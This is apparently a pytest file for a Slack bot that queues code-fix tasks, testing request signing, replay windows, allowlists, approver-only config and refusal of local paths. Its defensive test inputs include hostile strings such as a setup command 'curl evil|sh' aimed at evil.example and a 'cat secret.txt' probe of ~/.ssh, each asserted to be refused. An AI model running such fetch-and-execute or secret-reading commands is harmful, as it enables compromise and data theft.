"""The bot served on loopback: signatures, the replay window, /fix handling, dedupe, refusals, /healthz.

Real Redis (the task store), the real aiohttp application and Bolt app, the Web API emulator; no
worker runs here, so tasks stay queued (the whole flow with workers is in test_slack_flow.py).
"""

from __future__ import annotations

import asyncio
import json
import time

import aiohttp
import pytest

from chatbot.slack.surfaces import FEEDBACK_MODAL, FIX_MODAL
from chatbot.workspace import payloads
from tests.chatbot.harness import (
    APPROVER,
    CHANNEL,
    OTHER,
    REPO_URL,
    REQUESTER,
    SECRET,
    Bot,
    bot_settings,
    example_folder,
    serve_bot,
    served_bot,
)

pytestmark = pytest.mark.redis


async def test_forged_signature_is_refused(bot):
    status, _ = await bot.command("help", secret="not-the-secret")
    assert status == 401
    assert not bot.emu.responses and not bot.emu.calls_to("chat.postMessage")


async def test_stale_timestamp_is_refused_even_when_signed(bot):
    status, _ = await bot.command("help", timestamp=int(time.time()) - 6 * 60)
    assert status == 401
    status, _ = await bot.command("help", timestamp=int(time.time()) - 4 * 60)  # inside the 5-minute window
    assert status == 200


@pytest.mark.parametrize("timestamp", ["abc", "1e9", "-5", " 123", "１２３", "9" * 40])
async def test_malformed_signature_headers_are_refused_not_crashed_on(bot, timestamp):
    """Review finding 12: a non-numeric X-Slack-Request-Timestamp made slack_sdk's verifier raise: 500, traceback."""
    headers = payloads.signed_headers(SECRET, "command=/fix&text=help")
    headers["X-Slack-Request-Timestamp"] = timestamp
    async with bot.http.post(f"{bot.url}/slack/events", data=b"command=/fix&text=help", headers=headers) as resp:
        assert resp.status == 401
    assert not bot.emu.responses


@pytest.mark.parametrize(("body", "content_type"), [
    ("{not json", "application/json"),
    ("payload=%7Bnot+json", "application/x-www-form-urlencoded"),
    ("[1]", "application/json"),
    ("1", "application/json"),
    ("null", "application/json"),
    ("payload=1", "application/x-www-form-urlencoded"),
])
async def test_a_malformed_body_is_a_400_even_when_signed(bot, body, content_type):
    headers = payloads.signed_headers(SECRET, body, content_type=content_type)
    async with bot.http.post(f"{bot.url}/slack/events", data=body.encode(), headers=headers) as resp:
        assert resp.status == 400
        assert "malformed" in await resp.text()
    assert not bot.emu.responses and not bot.emu.calls_to("chat.postMessage")


async def test_unsigned_body_is_refused(bot):
    async with bot.http.post(f"{bot.url}/slack/events", data=b"command=/fix&text=help") as resp:
        assert resp.status == 401


async def test_help_is_ephemeral(bot):
    status, _ = await bot.command("help", key="help")
    assert status == 200
    answer = await bot.wait_response("help")
    assert answer["response_type"] == "ephemeral" and "/fix" in json.dumps(answer["blocks"])


async def test_fix_posts_thread_parent_and_queues_one_task(bot):
    status, body = await bot.command(f"{REPO_URL} negative amounts are dropped test: python3 -m pytest -q",
                                     key="fix")
    assert status == 200 and body == ""  # the ack: empty 200, nothing slow before it
    posts = await bot.emu.wait_for(lambda: bot.emu.messages(CHANNEL), what="the thread parent")
    ids = await bot.emu.wait_for(bot.task_ids, what="a task")
    task = bot.deps.store.get(ids[0])
    assert task["status"] == "queued" and task["request"]["issue"] == "negative amounts are dropped"
    assert task["origin"] == {"kind": "slack", "team": "T0001", "channel": CHANNEL, "user": REQUESTER,
                              "thread_ts": posts[0]["ts"], "message_ts": posts[0]["ts"],
                              "response_url": bot.emu.response_url("fix")}
    for _ in range(100):
        if await bot.deps.task_in_thread(CHANNEL, posts[0]["ts"]):
            break
        await asyncio.sleep(0.02)
    assert (await bot.deps.task_in_thread(CHANNEL, posts[0]["ts"]))["id"] == task["id"]
    # the notifier edits the parent into the status message (timeline, "queued")
    await bot.emu.wait_for(lambda: bot.emu.message(CHANNEL, posts[0]["ts"])["edits"] >= 1, what="a status edit")
    assert "plan" in json.dumps(bot.emu.message(CHANNEL, posts[0]["ts"])["blocks"])


async def test_a_retried_command_creates_one_task(bot):
    fields = payloads.slash_command(f"{REPO_URL} negative amounts are dropped",
                                    response_url=bot.emu.response_url("retry"), user=REQUESTER)
    body = payloads.form_body(fields)
    results = await asyncio.gather(bot.post(body), bot.post(body, retry_num=1))
    assert [s for s, _ in results] == [200, 200]
    await bot.emu.wait_for(bot.task_ids, what="a task")
    await asyncio.sleep(0.5)
    assert len(bot.task_ids()) == 1
    assert len(bot.emu.messages(CHANNEL)) == 1


async def test_bad_input_says_what_to_change(bot):
    await bot.command("https://evil.example/x/y the total is wrong", key="deny")
    answer = await bot.wait_response("deny")
    assert "not on the allowlist" in answer["text"] and answer["response_type"] == "ephemeral"
    await bot.command('repo=x issue="unclosed', key="syntax")
    assert "close every quote" in (await bot.wait_response("syntax"))["text"]
    typed = f"{REPO_URL} negative amounts are dropped; the <b> & `tset:` line tset: python -m pytest -q tests/"
    await bot.command(typed.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"), key="typo")  # as Slack
    answer = await bot.wait_response("typo")
    assert "did you mean `test:` instead of `tset:`" in answer["text"] and answer["response_type"] == "ephemeral"
    shown = answer["blocks"][-1]["elements"][0]["elements"][0]["text"]
    assert shown == f"/fix {typed}", "what was typed comes back verbatim, to copy and correct"
    await bot.command("the total is wrong", key="norepo")
    assert "which repository?" in (await bot.wait_response("norepo"))["text"]
    assert not bot.task_ids() and not bot.emu.messages(CHANNEL)


async def test_bot_not_in_channel_gets_an_invite_hint_and_no_task(bot):
    bot.emu.add_channel("C0PRIVATE", "private", is_private=True, bot_member=False)
    await bot.command(f"{REPO_URL} the total is wrong", channel="C0PRIVATE", key="invite")
    answer = await bot.wait_response("invite")
    assert "/invite @fixbot" in answer["text"] and answer["response_type"] == "ephemeral"
    assert not bot.task_ids()


async def test_channel_defaults_then_short_fix(bot):
    await bot.command(f'config repo={REPO_URL} test="python3 -m pytest -q"', user=APPROVER, key="config")
    assert "python3 -m pytest -q" in json.dumps((await bot.wait_response("config"))["blocks"])
    await bot.command("negative amounts are dropped", key="short")
    ids = await bot.emu.wait_for(bot.task_ids, what="a task")
    assert bot.deps.store.get(ids[0])["request"]["repo"] == REPO_URL


async def test_fix_alone_opens_the_modal_and_submitting_it_starts_a_task(bot):
    await bot.command("", key="modal")
    views = await bot.emu.wait_for(lambda: list(bot.emu.views.values()), what="views.open")
    assert views[0]["callback_id"] == FIX_MODAL
    values = {"repo": {"repo": {"type": "plain_text_input", "value": "https://evil.example/a/b"}},
              "issue": {"issue": {"type": "plain_text_input", "value": "negative amounts are dropped"}}}
    status, body = await bot.submit_view(FIX_MODAL, values, user=REQUESTER, private_metadata=json.dumps(
        {"channel": CHANNEL}))
    assert status == 200 and json.loads(body)["response_action"] == "errors"
    assert "allowlist" in json.loads(body)["errors"]["repo"]
    values["repo"]["repo"]["value"] = REPO_URL
    status, body = await bot.submit_view(FIX_MODAL, values, user=REQUESTER, private_metadata=json.dumps(
        {"channel": CHANNEL}))
    assert status == 200 and body == ""
    await bot.emu.wait_for(bot.task_ids, what="a task from the modal")


@pytest.mark.parametrize(("field", "value", "words"), [
    ("branch", "-repository", "not a valid branch name"),  # "repositor" in the message once sent it to the repo field
    ("test", "x" * 600, "too long"), ("setup", "pip install\n-e .", "one line"), ("issue", "x" * 9000, "too long"),
    ("repo", "ftp://github.com/acme/calc", "not allowed")])
async def test_the_form_shows_each_error_under_its_field(bot, field, value, words):
    """Review finding 16: errors were put under a field by matching words of the English message."""
    values = {"repo": {"repo": {"type": "plain_text_input", "value": REPO_URL}},
              "issue": {"issue": {"type": "plain_text_input", "value": "negative amounts are dropped"}},
              field: {field: {"type": "plain_text_input", "value": value}}}
    status, body = await bot.submit_view(FIX_MODAL, values, user=REQUESTER, private_metadata=json.dumps(
        {"channel": CHANNEL}))
    errors = json.loads(body)["errors"]
    assert status == 200 and list(errors) == [field] and words in errors[field], errors


async def test_disallowed_user_gets_a_clear_refusal(emulator, redis_conn):
    settings = bot_settings(emulator, slack_allowed_users=APPROVER)
    server, deps = await serve_bot(emulator, settings)
    try:
        async with aiohttp.ClientSession() as http:
            bot = Bot(str(server.make_url("")).rstrip("/"), settings, deps, emulator, http, server.app)
            await bot.command(f"{REPO_URL} broken", user=OTHER, key="refused")
            answer = await bot.wait_response("refused")
            assert "SLACK_ALLOWED_USERS" in answer["text"] and answer["response_type"] == "ephemeral"
            assert not bot.task_ids()
    finally:
        await server.close()


async def test_healthz_reports_redis_and_workers(bot):
    async with bot.http.get(f"{bot.url}/healthz") as resp:
        data = await resp.json()
    assert resp.status == 200 and data["redis"] == "ok" and data["workers_alive"] == 0
    assert data["status"] == "no_workers"


def test_signing_helper_matches_slack_sdk():
    from slack_sdk.signature import SignatureVerifier

    headers = payloads.signed_headers(SECRET, "a=b")
    assert SignatureVerifier(SECRET).is_valid_request("a=b", headers)
    assert not SignatureVerifier("other").is_valid_request("a=b", headers)


async def test_healthz_is_503_when_redis_is_unreachable(emulator):
    settings = bot_settings(emulator, redis_url="redis://127.0.0.1:1/0")
    server, _deps = await serve_bot(emulator, settings, notifier=False)
    try:
        async with aiohttp.ClientSession() as http, http.get(f"{str(server.make_url('')).rstrip('/')}/healthz") as resp:
            data = await resp.json()
        assert resp.status == 503 and data == {"status": "down", "redis": "unreachable"}  # nothing of where it is
    finally:
        await server.close()


def test_missing_slack_secrets_are_one_clear_line(emulator):
    from chatbot.exceptions import SlackSetupError
    from chatbot.slack.access import Access
    from chatbot.slack.app import build_bolt_app
    from chatbot.slack.context import SlackDeps

    settings = bot_settings(emulator, slack_bot_token=None)
    with pytest.raises(SlackSetupError, match="SLACK_BOT_TOKEN is not set"):
        build_bolt_app(settings, SlackDeps.from_settings(settings, Access(settings)))
    settings = bot_settings(emulator, slack_signing_secret=None)
    deps = SlackDeps.from_settings(settings, Access(settings))
    with pytest.raises(SlackSetupError, match="SLACK_SIGNING_SECRET is not set"):
        build_bolt_app(settings, deps)
    build_bolt_app(settings, deps, socket_mode=True)  # Socket Mode needs no signing secret


def test_bolt_gets_the_token_only_and_never_warns(emulator, monkeypatch, caplog):
    """Review finding 15: Bolt was given a client while SLACK_BOT_TOKEN was in the environment, and logged "As you
    gave `client` as well, `token` will be unused" at every start."""
    import logging

    from chatbot.slack.access import Access
    from chatbot.slack.app import build_bolt_app
    from chatbot.slack.context import SlackDeps

    monkeypatch.setenv("SLACK_BOT_TOKEN", emulator.bot_token)  # as a deployment sets it
    settings = bot_settings(emulator, slack_rate_limit_retries=2)
    with caplog.at_level(logging.DEBUG):
        app = build_bolt_app(settings, SlackDeps.from_settings(settings, Access(settings)))
    assert not [r for r in caplog.records if r.levelno >= logging.WARNING], [r.getMessage() for r in caplog.records]
    assert app.client.base_url == emulator.url and app.client.timeout == 30
    limits = [h for h in app.client.retry_handlers if type(h).__name__ == "AsyncRateLimitErrorRetryHandler"]
    assert [h.max_retry_count for h in limits] == [2]


def serve_env(**over: str) -> dict[str, str]:
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith("SLACK_")}
    env.update(SLACK_BOT_TOKEN="xoxb-test-token", SLACK_SIGNING_SECRET=SECRET, SLACK_API_URL="http://127.0.0.1:1/api/")
    env.update(over)
    return env


def test_a_port_in_use_is_one_line():
    """Review finding 17: a port in use gave "internal error (OSError...)" and a crash log."""
    import socket
    import subprocess
    import sys

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        proc = subprocess.run([sys.executable, "-m", "agent.cli", "serve", "--host", "127.0.0.1", "--port", str(port)],
                              env=serve_env(), capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1
    assert f"cannot listen on 127.0.0.1:{port}" in proc.stderr and "--port or API_PORT" in proc.stderr
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr


def test_serve_with_redis_down_serves_and_says_so():
    """Review finding 17 (decided: serve, unlike worker, starts without Redis): one warning line at start,
    /healthz 503 until Redis answers; no traceback."""
    import signal
    import socket
    import subprocess
    import sys
    import urllib.error
    import urllib.request

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    proc = subprocess.Popen([sys.executable, "-m", "agent.cli", "serve", "--host", "127.0.0.1", "--port", str(port)],
                            env=serve_env(REDIS_URL="redis://127.0.0.1:1/0"), stderr=subprocess.PIPE, text=True)
    try:
        status = None
        for _ in range(300):
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz", timeout=2)
                status = 200
            except urllib.error.HTTPError as exc:
                status = exc.code
            except OSError:
                time.sleep(0.1)
                continue
            break
        assert status == 503
    finally:
        proc.send_signal(signal.SIGTERM)
        _out, err = proc.communicate(timeout=30)
    assert "serving anyway" in err and "cannot reach Redis at 127.0.0.1:1/0" in err
    assert len([line for line in err.splitlines() if "serving anyway" in line]) == 1 and "Traceback" not in err


def test_serve_without_a_token_says_so_in_one_line():
    import os
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if not k.startswith("SLACK_")}
    proc = subprocess.run([sys.executable, "-m", "agent.cli", "serve", "--port", "0"], env=env, capture_output=True,
                          text=True, timeout=60)
    assert proc.returncode != 0
    assert "SLACK_BOT_TOKEN is not set" in proc.stderr and "Traceback" not in proc.stderr


async def test_slack_never_takes_a_path_on_the_bots_machine(bot, tmp_path):
    """Review finding 1: with ALLOW_LOCAL_REPOS on (the CLI's convenience), `/fix /some/dir ... test: cat secret`
    copied the host's folder into the sandbox and showed the file in the thread; `no directory at` probed paths."""
    assert bot.settings.allow_local_repos  # this deployment lets its CLI fix local paths
    (tmp_path / "secret.txt").write_text("host secret\n")
    paths = [str(tmp_path), str(tmp_path / "missing"), f"file://{tmp_path}", "./examples/calculate_total",
             "~/.ssh"]
    for i, path in enumerate(paths):
        await bot.command(f"{path} it is broken test: cat secret.txt", key=f"local-{i}")
    answers = [(await bot.wait_response(f"local-{i}"))["text"] for i in range(len(paths))]
    assert all("by its URL" in a and "command line" in a for a in answers), answers
    assert len({a.replace(p, "") for a, p in zip(answers, paths, strict=True)}) == 1  # an existing path looks the same
    assert not any("no directory" in a or "ALLOW_LOCAL_REPOS" in a for a in answers)
    values = {"repo": {"repo": {"type": "plain_text_input", "value": str(tmp_path)}},
              "issue": {"issue": {"type": "plain_text_input", "value": "it is broken"}}}
    status, body = await bot.submit_view(FIX_MODAL, values, user=REQUESTER, private_metadata=json.dumps(
        {"channel": CHANNEL}))
    assert status == 200 and "by its URL" in json.loads(body)["errors"]["repo"]
    await asyncio.sleep(0.3)
    assert not bot.task_ids() and not bot.emu.messages(CHANNEL)


async def test_channel_defaults_are_checked_set_by_approvers_and_announced(bot):
    """Review finding 10: any member could set `repo=https://evil.example.com/x setup="curl evil|sh"` for everyone,
    unchecked and unannounced."""
    await bot.command('config repo=https://github.com/acme/calc setup="pip install -e ."', user=OTHER, key="other")
    assert "only approvers may change" in (await bot.wait_response("other"))["text"]
    await bot.command('config repo=https://evil.example.com/x setup="curl evil|sh"', user=APPROVER, key="evil")
    assert "not on the allowlist" in (await bot.wait_response("evil"))["text"]
    await bot.command(f"config repo={example_folder()}", user=APPROVER, key="path")
    assert "by its URL" in (await bot.wait_response("path"))["text"]
    await bot.command('config branch="-x"', user=APPROVER, key="branch")
    assert "not a valid branch name" in (await bot.wait_response("branch"))["text"]
    assert bot.deps.conn.hgetall(bot.deps.keys.channel_config(CHANNEL)) == {}
    assert not bot.emu.messages(CHANNEL)  # nothing announced, nothing saved

    await bot.command(f'config repo={REPO_URL} setup="pip install -e ."', user=APPROVER, key="ok")
    assert "pip install -e ." in json.dumps((await bot.wait_response("ok"))["blocks"])
    announced = bot.emu.messages(CHANNEL)
    assert len(announced) == 1 and f"<@{APPROVER}> changed this channel's /fix defaults" in json.dumps(
        announced[0]["blocks"])
    assert REPO_URL in json.dumps(announced[0]["blocks"]) and "pip install -e ." in json.dumps(announced[0]["blocks"])
    await bot.command("config clear", user=APPROVER, key="clear")
    await bot.wait_response("clear")
    assert "cleared this channel's /fix defaults" in json.dumps(bot.emu.messages(CHANNEL)[-1]["blocks"])
    assert bot.deps.conn.hgetall(bot.deps.keys.channel_config(CHANNEL)) == {}


async def test_every_request_gets_an_answer_while_redis_is_down(emulator):
    """Review finding 4: with Redis unreachable, /fix, Approve, `@fixbot list`, the modal and the feedback form got
    no reply at all (the work after the ack only logged)."""
    async with served_bot(emulator, notifier=False, redis_url="redis://127.0.0.1:1/0") as bot:
        await bot.command(f"{REPO_URL} the total is wrong", key="fix")
        assert "cannot reach its task store" in (await bot.wait_response("fix"))["text"]
        await bot.command("help", key="help")  # help needs nothing from Redis
        assert "How to use fixbot" in (await bot.wait_response("help"))["text"]
        await bot.click("fixbot_approve", "fx-0123456789ab", user=APPROVER, message_ts="1.000001", key="approve")
        answer = await bot.wait_response("approve")
        assert "cannot reach its task store" in answer["text"] and answer["response_type"] == "ephemeral"
        listed = bot.emu.user_message(CHANNEL, OTHER, "<@UFIXBOT> list")
        await bot.event({**listed, "type": "app_mention"}, event_id="EvDown1")
        whisper = await bot.emu.wait_for(lambda: bot.emu.ephemeral, what="an ephemeral answer to the mention")
        assert whisper[0]["user"] == OTHER and "cannot reach its task store" in whisper[0]["text"]
        values = {"repo": {"repo": {"type": "plain_text_input", "value": REPO_URL}},
                  "issue": {"issue": {"type": "plain_text_input", "value": "negative amounts are dropped"}}}
        status, body = await bot.submit_view(FIX_MODAL, values, user=REQUESTER, private_metadata=json.dumps(
            {"channel": CHANNEL}))
        assert status == 200 and "cannot reach its task store" in json.loads(body)["errors"]["issue"]
        feedback = {"feedback": {"feedback": {"type": "plain_text_input", "value": "no"}},
                    "retry": {"retry": {"type": "checkboxes", "selected_options": []}}}
        await bot.submit_view(FEEDBACK_MODAL, feedback, user=REQUESTER, private_metadata=json.dumps(
            {"task_id": "fx-0123456789ab", "channel": CHANNEL, "message_ts": "1.000001"}))
        await bot.emu.wait_for(lambda: len(bot.emu.ephemeral) == 2, what="an answer to the feedback form")
        assert bot.emu.ephemeral[1]["user"] == REQUESTER and "task store" in bot.emu.ephemeral[1]["text"]
        # a plain thread reply is not addressed to the bot: no answer, only a log line
        await bot.event(bot.emu.user_message(CHANNEL, OTHER, "lgtm", thread_ts="1.000001"), event_id="EvDown2")
        await asyncio.sleep(0.3)
        assert len(bot.emu.ephemeral) == 2


async def test_healthz_does_not_count_a_dead_worker(bot):
    """Review finding 6: /healthz counted rq's registry set (Worker.count), so a SIGKILLed worker stayed "alive";
    App Home used Worker.all. Both now use the store's definition."""
    from rq import Queue, Worker

    queue = Queue(bot.settings.queue_name, connection=bot.deps.conn)
    live, dead = (Worker([queue], connection=bot.deps.conn, name=f"test-{n}") for n in ("live", "dead"))
    live.register_birth()
    dead.register_birth()
    bot.deps.conn.delete(dead.key)  # what a SIGKILLed worker leaves once its key expired: the registry entry only
    async with bot.http.get(f"{bot.url}/healthz") as resp:
        data = await resp.json()
    assert data["workers_alive"] == 1 == bot.deps.store.stats()["workers_alive"]
    live.register_death()


async def test_web_api_calls_share_one_session(emulator, redis_conn):
    """Review finding 11: the client had no session, so slack_sdk opened (and closed) one per call: a new connection
    (and against Slack a TLS handshake) for every chat.update. Calls now reuse kept-alive connections."""
    from chatbot.server import BOLT_KEY

    async with served_bot(emulator) as bot:
        for i in range(3):
            await bot.command(f"{REPO_URL} the total is wrong, case {i}", key=f"fix-{i}")
            await bot.emu.wait_for(lambda i=i: len(bot.emu.messages(CHANNEL)) > i, what="a thread parent")
        await bot.emu.wait_for(lambda: len([c for c in bot.emu.calls_to("chat.update") if c.ok]) >= 3,
                               what="status edits")
        calls = [c for c in bot.emu.calls if c.method != "auth.test"]
        assert len(calls) >= 6 and len({c.peer for c in calls}) <= 3, [(c.method, c.peer) for c in calls]
        session = bot.app[BOLT_KEY].client.session
        assert session is not None and not session.closed
    assert session.closed  # closed when the server stops


async def test_control_characters_in_commands_are_refused(bot):
    """Review finding 17: validate_request kept C0 controls in test and setup commands (\\x07\\x1b reached bash)."""
    await bot.command(f"{REPO_URL} the total is wrong test: python3 -m pytest -q \x07\x1b[2K", key="test")
    answer = (await bot.wait_response("test"))["text"]
    assert "the test command contains a control character (U+0007)" in answer
    await bot.command(f"{REPO_URL} the total is wrong setup: pip install -e . \x9b31m", key="setup")
    assert "the setup command contains a control character (U+009B)" in (await bot.wait_response("setup"))["text"]
    await bot.command('config test="pytest -q\x1b]0;x\x07"', user=APPROVER, key="config")
    assert "control character (U+001B)" in (await bot.wait_response("config"))["text"]
    await bot.command(f"{REPO_URL} the total is wrong test: python3 -m pytest -q\t-x", key="tab")  # a tab is fine
    ids = await bot.emu.wait_for(bot.task_ids, what="the task with a tab in its command")
    assert bot.deps.store.get(ids[0])["request"]["test_command"] == "python3 -m pytest -q\t-x"
    assert len(ids) == 1 and bot.deps.conn.hgetall(bot.deps.keys.channel_config(CHANNEL)) == {}
